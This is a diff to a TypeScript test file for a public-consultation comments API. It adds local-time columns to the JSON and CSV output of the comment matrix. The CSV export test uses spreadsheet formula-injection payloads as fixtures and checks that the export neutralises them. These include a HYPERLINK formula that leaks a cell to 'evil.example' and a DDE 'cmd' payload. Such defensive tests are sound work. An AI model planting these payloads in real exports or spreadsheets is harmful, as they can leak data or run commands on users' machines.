@@ -5,7 +5,7 @@ import t from 'tap';
 import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
 import { neutraliseFormula, prefersCsv } from '../../src/http/csv.ts';
-import { DRAFT_BODY, openConsultation, startApi, eventCount, inviteThroughApi } from '../helpers/http.ts';
+import { DRAFT_BODY, openConsultation, startApi, eventCount, inviteThroughApi, withoutLocalTimes } from '../helpers/http.ts';
 
 type Api = Awaited<ReturnType<typeof startApi>>;
 
@@ -100,7 +100,7 @@ t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with co
   t.equal(matrix.statusCode, 200);
   t.equal(matrix.headers['content-type'], 'application/json; charset=utf-8');
   t.equal(matrix.headers.etag, 'W/"5"');
-  t.strictSame(matrix.json(), {
+  t.strictSame(withoutLocalTimes(matrix.json()), {
     consultationId: id,
     comments: [
       row({
@@ -117,7 +117,9 @@ t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with co
   });
   const one = await api.call({ url: `/consultations/${id}/comments/${saidId}` });
   t.equal(one.statusCode, 200, 'the Location of a comment is readable');
-  t.strictSame(one.json(), matrix.json().comments[1]);
+  const { timeZone, ...oneRow } = one.json();
+  t.equal(timeZone, 'Europe/Bucharest', 'one comment names the zone of its local times too');
+  t.strictSame(oneRow, matrix.json().comments[1]);
   t.equal(one.headers.etag, `W/"${saidId}-5"`, 'a comment\'s ETag names it and the consultation\'s revision');
   const missing = await api.call({ url: `/consultations/${id}/comments/${randomUUID()}` });
   t.equal(missing.statusCode, 404);
@@ -180,7 +182,7 @@ t.test('answering again revises the answer: the matrix shows the latest with the
   t.strictSame(same.json(), { revision: 6 }, 'the same answer again is a no-op');
   t.equal(await eventCount(api, id), 7);
 
-  const matrix = (await api.call({ url: `/consultations/${id}/comments` })).json();
+  const matrix = withoutLocalTimes((await api.call({ url: `/consultations/${id}/comments` })).json());
   t.strictSame(matrix.comments[0], row({
     commentId: cid, ref: 'C-1', draftVersion: 1, sectionKey: 's2', sectionHeading: 'Protection', stakeholderId: wmn, organisation: WMN.organisation,
     text: 'Add a survivor-centred approach.', channel: 'api', madeAt: T0, submittedAt: T0,
@@ -202,7 +204,7 @@ t.test('a retracted comment stays in the matrix as retracted, is not counted, an
   t.strictSame(res.json(), { revision: 7 });
   const matrix = (await api.call({ url: `/consultations/${id}/comments` })).json();
   t.strictSame(matrix.comments.map((c: { commentId: string; status: string }) => [c.commentId, c.status]), [[kept, 'awaiting-answer'], [wrong, 'retracted']]);
-  t.strictSame(matrix.comments[1].retraction, { reason: 'Recorded on the wrong stakeholder', retractedAt: '2027-01-11T10:00:00.000Z' });
+  t.strictSame(withoutLocalTimes(matrix.comments[1].retraction), { reason: 'Recorded on the wrong stakeholder', retractedAt: '2027-01-11T10:00:00.000Z' });
   t.equal(matrix.comments[1].disposition, 'noted', 'its answer stays on record');
   t.strictSame(matrix.counts, { total: 1, answered: 0, awaitingAnswer: 1, retracted: 1 });
   const answer = await api.call({ url: `/consultations/${id}/comments/${wrong}/answer`, body: { disposition: 'accepted', response: 'Too late' } });
@@ -373,24 +375,29 @@ t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are n
   t.ok(res.body.startsWith('\uFEFF"Reference",'), 'a UTF-8 BOM, then every cell quoted');
   t.ok(res.body.endsWith('\r\n'), 'CRLF record ends');
   const records = parse(res.body, { bom: true }) as string[][];
+  // after each "… at" column, the same time in the consultation's zone (Europe/Bucharest: +02:00 in January)
+  const tz = 'Europe/Bucharest';
   t.strictSame(records[0], [
-    'Reference', 'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', 'Submitted at',
-    'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', 'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at',
+    'Reference', 'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', `Made at (${tz})`,
+    'Submitted at', `Submitted at (${tz})`, 'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', `Answered at (${tz})`,
+    'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at', `Retracted at (${tz})`,
   ]);
-  const s1 = (n: number, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '', '', '', '']) =>
-    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0, text, ...rest];
+  const T0_LOCAL = '2027-01-10T11:00:00.000+02:00';
+  const s1 = (n: number, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '', '', '', '', '', '']) =>
+    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0_LOCAL, T0, T0_LOCAL, text, ...rest];
   t.strictSame(records.slice(1), [
     s1(0, '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")', [
-      '', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', 'Gender Office coordinator (coordinator)',
-      '1. 2027-01-11T09:00:00.000Z by Gender Office coordinator (coordinator), rejected:\nLinks are not accepted.', '', '',
+      '', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00',
+      'Gender Office coordinator (coordinator)',
+      '1. 2027-01-11T09:00:00.000Z (2027-01-11T11:00:00.000+02:00) by Gender Office coordinator (coordinator), rejected:\nLinks are not accepted.', '', '', '',
     ]),
     s1(1, '\'+1 more seat for women at the table'),
     s1(2, '\'-2 percent is not a target'),
-    s1(3, '\'@SUM(A1:A9)', ['', 'retracted', '', '', '', '', '', '\'+spam', '2027-01-11T09:00:00.000Z']),
+    s1(3, '\'@SUM(A1:A9)', ['', 'retracted', '', '', '', '', '', '', '\'+spam', '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00']),
     s1(4, '\'=1+1'),
     s1(5, 'Say "women, peace and security",\nnot "gender",\nthroughout'), // CRLF arrives as LF
-    ['C-7', whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-10T12:00:00Z', '2027-01-11T09:00:00.000Z', 'Whole draft, plain', '\'=2+2',
-      'awaiting-answer', '', '', '', '', '', '', ''],
+    ['C-7', whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-10T12:00:00Z', '2027-01-10T14:00:00+02:00',
+      '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00', 'Whole draft, plain', '\'=2+2', 'awaiting-answer', '', '', '', '', '', '', '', '', ''],
   ]);
   t.match(res.body, /"Say ""women, peace and security"",\nnot ""gender"",\nthroughout"/, 'quotes doubled, the cell quoted');
 
